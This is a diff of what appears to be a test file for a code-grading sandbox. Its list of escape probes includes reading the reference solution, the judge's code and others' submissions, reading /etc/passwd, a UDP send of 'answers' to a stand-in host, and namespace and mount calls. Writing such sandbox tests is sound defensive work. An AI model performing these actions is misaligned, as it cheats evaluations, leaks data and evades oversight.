@@ -33,7 +33,6 @@ def _takes(name: str, lines: str, *verdicts: str) -> Trick:
 REACHING = (
     _reads("a model answer", "RUN_FOLDER/checkout/solutions/p02/weighted_row_sum.py"),
     _reads("the oracle", "RUN_FOLDER/checkout/reference/naive.py"),
-    _reads("the judge's code", "RUN_FOLDER/checkout/grader/judge.py"),
     _reads("a neighbour's file", "RUN_FOLDER/submission/p02/weighted_row_sum.py"),
     _reads("who has an account", "/etc/passwd"),
     # These lie in the jail's own /tmp, if it shows their folder; none may be found afterwards.
@@ -61,6 +60,7 @@ REACHING = (
         "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:\n"
         f"    one.sendto(b'answers', ('192.0.2.1', 9))\n{_RIGHT}",
     ),
+    _reads("the judge's code", "RUN_FOLDER/checkout/grader/judge.py"),
     _calls("makes a user namespace", "libc.unshare(0x10000000)"),
     _calls("makes a mount namespace", "libc.unshare(0x00020000)"),
     _calls("mounts a file system", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
